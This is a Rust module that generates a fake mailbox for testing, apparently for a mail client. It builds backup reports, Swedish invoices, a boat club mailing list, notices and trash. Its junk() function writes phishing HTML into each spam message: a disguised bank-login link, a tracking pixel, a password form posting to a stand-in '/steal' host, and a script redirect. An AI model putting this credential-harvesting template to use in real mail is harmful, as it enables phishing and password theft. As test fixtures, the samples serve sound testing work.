//! What comes again and again: receipts, robots, the club's mailing list, notices, junk.

use super::Item;
use super::files;
use super::mime::{ANNA, Letter, Part, Person, Transfer};
use super::moment::Moment;
use super::newsletters;

/// All of them, for Anna.
pub(super) fn all(now: Moment) -> Vec<Item> {
    [
        newsletters::all(now),
        backups(now),
        receipts(now),
        list(now),
        notices(now),
        junk(now),
        trash(now),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// A mailbox with less in it, for a second person.
pub(super) fn for_bertil(now: Moment) -> Vec<Item> {
    let mut items = backups(now);
    items.extend(newsletters::issues(now));
    items.extend(junk(now).into_iter().take(4));
    items.push(
        Letter::new(now.earlier(3 * 3_600), ANNA, "Släpvagnen på lördag")
            .to(&[("Bertil Lindqvist", "bertil@samma.test")])
            .id("trailer")
            .item(
                "INBOX",
                &[],
                Part::text("Glöm inte släpvagnen, vi ska vara där före nio.\n\nPuss, A\n"),
            ),
    );
    items
}

fn backups(now: Moment) -> Vec<Item> {
    (0..45_i64)
        .map(|night| {
            let failed = night == 11;
            let files = 48_113 - night * 17;
            let subject = if failed { "Nightly backup FAILED" } else { "Nightly backup finished" };
            let text = if failed {
                "disk quota exceeded on /backup, 3 files were not copied:\n  photos/2024/IMG_2231.mov\n  photos/2024/IMG_2232.mov\n  photos/2024/IMG_2240.mov\n".to_owned()
            } else {
                format!("Verified {files} files in {} m {} s. Nothing to do.\n", 4 + night % 3, 12 + night * 7 % 48)
            };
            let letter = Letter::new(now.days_ago(night + 1, 3, 12), ("Backup robot", "backup@nas.home.example"), subject)
                .to(&[ANNA])
                .id(&format!("backup-{night}"))
                .header("Auto-Submitted", "auto-generated")
                .header("X-Host", "nas");
            let flags: &[&str] = if failed { &["\\Seen", "\\Flagged"] } else { &["\\Seen"] };
            letter.item(if night < 12 { "INBOX" } else { "Archive" }, flags, Part::text(&text))
        })
        .collect()
}

fn receipts(now: Moment) -> Vec<Item> {
    /// Sender, address, what for, kronor, day of the month.
    const SHOPS: [(&str, &str, &str, i64, i64); 5] = [
        (
            "Västkraft",
            "faktura@vastkraft.example",
            "Din elfaktura",
            612,
            2,
        ),
        (
            "Fibra",
            "kundservice@fibra.example",
            "Faktura bredband",
            399,
            9,
        ),
        ("Statens tåg", "biljett@tag.example", "Din biljett", 284, 14),
        (
            "Hemköp Torget",
            "kvitto@hemkop.example",
            "Kvitto på ditt köp",
            733,
            19,
        ),
        (
            "Roslagstak AB",
            "ekonomi@roslagstak.example",
            "Faktura 22",
            22_500,
            25,
        ),
    ];
    let mut items = Vec::new();
    for month in 0..8_i64 {
        for (number, (name, address, what, kronor, day)) in SHOPS.into_iter().enumerate() {
            if number == 4 && month > 2 {
                continue;
            }
            let amount = kronor + month * 37 % 90;
            let at = now.days_ago(month * 30 + day, 9, 15);
            let invoice = 4_471_220 - month * 1_307 - number as i64;
            let subject = match number {
                0 => "Your invoice for the last month".to_owned(),
                4 => format!("{what}{}", 31 + month),
                _ => what.to_owned(),
            };
            let text = format!(
                "Hej Anna Lindqvist!\n\n{what}: {amount} kr.\nFakturanummer {invoice}. Förfaller {}.\n\nBetala till bankgiro 555-0{number}17, ange numret ovan.\n\nVänliga hälsningar\n{name}\n",
                at.earlier(-20 * 86_400).day()
            );
            let pdf = files::pdf(
                name,
                &[
                    &format!("Invoice {invoice}"),
                    &format!("Amount {amount} SEK"),
                    "Thank you.",
                ],
            );
            // As such mails are: the text in Latin-1, the invoice as a file.
            let part = Part::multi(
                "mixed",
                vec![
                    Part::text_in("text/plain", "iso-8859-1", Transfer::Quoted, &text),
                    Part::file("application/pdf", &format!("{invoice}.pdf"), &pdf),
                ],
            );
            let letter = Letter::new(at, (name, address), &subject)
                .to(&[ANNA])
                .id(&format!("receipt-{month}-{number}"));
            let newest = month == 0 && number == 0;
            let flags: &[&str] = if newest {
                &["Receipts"]
            } else {
                &["\\Seen", "Receipts"]
            };
            items.push(letter.item(if newest { "INBOX" } else { "Receipts" }, flags, part));
        }
    }
    items
}

/// The club's list: a prefix in the subject, a footer, List headers, four seasons of small talk.
fn list(now: Moment) -> Vec<Item> {
    const TOPICS: [(&str, &[&str]); 9] = [
        (
            "Isen i viken",
            &[
                "Nu ligger isen 4 cm vid bryggan. Gå inte ut!",
                "Tack för varningen. Barnen är tillsagda.",
                "På vår sida är den blöt i kanten.",
            ],
        ),
        (
            "Vaktlistan vecka 48",
            &[
                "Jag kan inte torsdag natt. Vem byter?",
                "Jag tar den, om du tar min i december.",
                "Taget. Tack!",
            ],
        ),
        (
            "Säljes: utombordare 4 hk",
            &[
                "Fyra hästar, nio säsonger, alltid spolad. 3 500 kr.",
                "Är den kvar?",
                "Såld till Omar.",
            ],
        ),
        (
            "Höststädningen",
            &[
                "Samling nio, ta med räfsa och handskar. Klubben bjuder på ärtsoppa.",
                "Vi blir tre.",
                "Jag har ont i ryggen men kan koka soppan.",
                "Bästa sorten av ont i ryggen.",
            ],
        ),
        (
            "Seglarläger för barn",
            &[
                "Anmälan är öppen. Tjugo platser, från åtta år.",
                "Elsa vill vara med, och hennes kusin.",
                "Noterat. Fjorton kvar.",
            ],
        ),
        (
            "Bommen är trasig igen",
            &[
                "Bommen till parkeringen står öppen och tjuter.",
                "Jag har ringt. De kommer i morgon mellan 8 och 17.",
                "Det blev 17.20, men nu är den hel.",
            ],
        ),
        (
            "Ny granne vid plats 23",
            &[
                "Mary och hennes Fågel har fått plats 23. Hälsa henne välkommen!",
                "Välkommen!",
                "Välkommen, säg till om du behöver fendrar.",
            ],
        ),
        (
            "Tävling på söndag: resultat",
            &[
                "1. Havsörn 2. Fågel 3. Lill-Anna. Sjutton startande, en grundstötning utan skador.",
                "Grattis! Och ursäkta stenen.",
                "Stenen har legat där sedan istiden.",
            ],
        ),
        (
            "Årsmötet: protokoll",
            &[
                "Protokollet ligger i klubbhuset och bifogas här.",
                "Under punkt 6 står det fel år.",
                "Rättat.",
            ],
        ),
    ];
    const PEOPLE: [Person; 5] = [
        ("Stefan Berg", "stefan@example.se"),
        ("Karin Lund", "karin.lund@example.se"),
        ("Omar Haddad", "omar.haddad@example.net"),
        ("Göran Öberg", "kassor@batklubbenviken.example"),
        ("Johan Ek", "johan.ek@example.se"),
    ];
    let club = ("Båtklubben Viken", "alla@batklubbenviken.example");
    let mut items = Vec::new();
    for (number, (topic, turns)) in TOPICS.into_iter().enumerate() {
        let mut ids: Vec<String> = Vec::new();
        for (place, words) in turns.iter().enumerate() {
            let re = if place == 0 { "" } else { "Re: " };
            let at = now.days_ago(
                2 + number as i64 * 9 - place.min(1) as i64,
                12 + place as i64,
                20 + number as i64,
            );
            let who = PEOPLE[(number + place) % PEOPLE.len()];
            let id = format!("list-{number}-{place}");
            let text = format!(
                "{words}\n\n{}\n_______________________________________________\nalla@batklubbenviken.example\nhttps://lists.batklubbenviken.example/alla\n",
                who.0
            );
            let part = if number == 8 && place == 0 {
                let minutes = files::pdf(
                    "Årsmöte",
                    &["Närvarande: 41.", "§ 6 Avgiften höjs med 5 % från maj."],
                );
                Part::multi(
                    "mixed",
                    vec![
                        Part::text(&text),
                        Part::file("application/pdf", "protokoll årsmöte.pdf", &minutes),
                    ],
                )
            } else {
                Part::text_in("text/plain", "utf-8", Transfer::Eight, &text)
            };
            let letter = Letter::new(at, who, &format!("{re}[Viken] {topic}"))
                .to(&[club])
                .id(&id)
                .answers(&ids)
                .header("List-Id", "<alla.batklubbenviken.example>")
                .header("List-Post", "<mailto:alla@batklubbenviken.example>")
                .header(
                    "List-Unsubscribe",
                    "<mailto:alla-leave@batklubbenviken.example>",
                )
                .header("Reply-To", "alla@batklubbenviken.example");
            let mailbox = if number == 8 {
                "Möten & protokoll"
            } else if number < 2 {
                "INBOX"
            } else {
                "Båtklubben"
            };
            let unread = number == 0 && place == 2;
            items.push(letter.item(mailbox, if unread { &[] } else { &["\\Seen"] }, part));
            ids.push(id);
        }
    }
    items
}

/// Parcels, appointments, statements.
fn notices(now: Moment) -> Vec<Item> {
    const NOTICES: [(&str, &str, &str, &str); 12] = [
        (
            "Paketet",
            "avisering@paketet.example",
            "Ditt paket har kommit",
            "Hämta det på Hemköp Torget inom 14 dagar. Ta med legitimation.",
        ),
        (
            "Vårdcentralen Viken",
            "ingen-svara@vard.example",
            "Tid för vaccination",
            "Du har tid på onsdag 10.20. Avboka senast dagen före.",
        ),
        (
            "Sparbanken",
            "meddelande@sparbanken.example",
            "Nytt kontoutdrag",
            "Logga in för att läsa det. Vi skickar aldrig länkar till inloggningen.",
        ),
        (
            "Skolan 4 B",
            "4b@skolan.example",
            "Veckobrev",
            "I veckan läser vi om Östersjön. Utflykt på torsdag, ta med matsäck!",
        ),
        (
            "Photo Cloud",
            "no-reply@photocloud.example",
            "Your storage is almost full",
            "You use 14.2 of 15 GB. The largest items are three videos from the regatta.",
        ),
        (
            "Code Host",
            "notifications@codehost.example",
            "[viken/website] Build failed on main",
            "Step \"links\": 2 dead links in sponsors.html.",
        ),
        (
            "Återvinningen",
            "info@atervinning.example",
            "Trädgårdsavfall hämtas nästa vecka",
            "Ställ ut kärlet senast klockan sex på morgonen.",
        ),
        (
            "Skolan 4 B",
            "4b@skolan.example",
            "Veckobrev",
            "Tack för en fin utflykt. Läxan är multiplikation, sjuan och åttan.",
        ),
        (
            "Calendar",
            "calendar@example.com",
            "Daily agenda",
            "10:00 Roof, scaffolding\n15:30 Elsa, dentist\n19:00 Board",
        ),
        (
            "Trafikverket",
            "info@trafik.example",
            "Störningar på sträckan",
            "Buss ersätter tåg lördag och söndag. Räkna med 40 minuter extra.",
        ),
        (
            "Code Host",
            "notifications@codehost.example",
            "[viken/website] Build is back to green",
            "All 14 steps passed.",
        ),
        (
            "Hyreskollen",
            "post@hyreskollen.example",
            "Påminnelse: avläs vattenmätaren",
            "Senast den sista i månaden, tack.",
        ),
    ];
    let mut items = Vec::new();
    for round in 0..3_i64 {
        for (number, (name, address, subject, text)) in NOTICES.into_iter().enumerate() {
            let place = round * NOTICES.len() as i64 + number as i64;
            let at = now.days_ago(1 + place * 2, 10 + place % 9, 5 + place);
            let letter = Letter::new(at, (name, address), subject)
                .to(&[ANNA])
                .id(&format!("notice-{place}"))
                .header("Auto-Submitted", "auto-generated");
            let flags: &[&str] = if place < 3 { &[] } else { &["\\Seen"] };
            let part = if number % 2 == 0 {
                Part::text(&format!("{text}\n\n{name}\n"))
            } else {
                Part::text_in(
                    "text/plain",
                    "iso-8859-1",
                    Transfer::Quoted,
                    &format!("{text}\n\n{name}\n"),
                )
            };
            items.push(letter.item(if place < 16 { "INBOX" } else { "Archive" }, flags, part));
        }
    }
    items
}

fn junk(now: Moment) -> Vec<Item> {
    const JUNK: [(&str, &str, &str); 14] = [
        (
            "Your Bank Security",
            "security@bank-1ogin.example",
            "URGENT: your account is closed in 24 hours",
        ),
        (
            "Prince Adewale",
            "prince@inheritance.example",
            "Confidential business proposal",
        ),
        (
            "SEO Expert",
            "rank@topseo.example",
            "I visited your website and found errors",
        ),
        (
            "Parcel Service",
            "track@parce1.example",
            "Your parcel could not be delivered (fee 12 kr)",
        ),
        (
            "Crypto Club",
            "win@crypto.example",
            "Turn 100 into 10,000 🚀🚀🚀",
        ),
        ("Dr. Slim", "dr@slim.example", "Doctors hate this trick"),
        (
            "Lotteri",
            "vinst@lotteri.example",
            "GRATTIS!!! Du har vunnit 1 000 000 kr",
        ),
        (
            "Anna Lindqvist",
            "anna@samma.test.example",
            "I have access to your device",
        ),
        (
            "Toner Direct",
            "office@toner.example",
            "Toner -70 %, today only",
        ),
        (
            "Dating",
            "irina@date.example",
            "Hello dear, I saw your profile",
        ),
        (
            "Invoice Dept",
            "invoice@inv0ice.example",
            "Overdue invoice #88121, see attachment",
        ),
        ("Watches", "sale@replica.example", "Luxury for less"),
        (
            "Loan Today",
            "cash@loan.example",
            "Lån utan UC, pengar på 5 minuter",
        ),
        (
            "Webmail Admin",
            "admin@webmail-upgrade.example",
            "Mailbox full: click to upgrade",
        ),
    ];
    JUNK.into_iter()
        .enumerate()
        .map(|(number, (name, address, subject))| {
            let html = format!(
                "<html><body bgcolor=\"#ffffee\"><center><font size=\"5\" color=\"red\"><b>{subject}</b></font><br><br>\n\
                 <a href=\"http://203.0.113.{number}/login.php?mail=anna@samma.test\">https://www.your-bank.example/login</a>\n\
                 <img src=\"http://203.0.113.{number}/seen.gif?u=anna\" width=\"1\" height=\"1\">\n\
                 <form action=\"http://203.0.113.{number}/steal\" method=\"post\"><input name=\"password\" type=\"password\"><input type=\"submit\" value=\"Log in\"></form>\n\
                 <script>document.location = \"http://203.0.113.{number}/\"</script></center></body></html>"
            );
            let letter = Letter::new(now.days_ago(1 + number as i64 * 2, 2, 40), (name, address), subject)
                .to(&[ANNA])
                .id(&format!("junk-{number}"))
                .header("X-Spam-Flag", "YES")
                .header("X-Spam-Score", &format!("{}.4", 6 + number));
            letter.item("Junk", if number % 3 == 0 { &["$Junk"] } else { &["\\Seen", "$Junk"] }, Part::html(&html))
        })
        .collect()
}

fn trash(now: Moment) -> Vec<Item> {
    (0..8_i64)
        .map(|number| {
            let subject = format!("Someone liked your photo ({})", number + 3);
            let letter = Letter::new(
                now.days_ago(2 + number * 3, 22, 15),
                ("Photo Cloud", "no-reply@photocloud.example"),
                &subject,
            )
            .to(&[ANNA])
            .id(&format!("liked-{number}"));
            letter.item(
                "Trash",
                &["\\Seen"],
                Part::text("Open the app to see who.\n"),
            )
        })
        .collect()
}
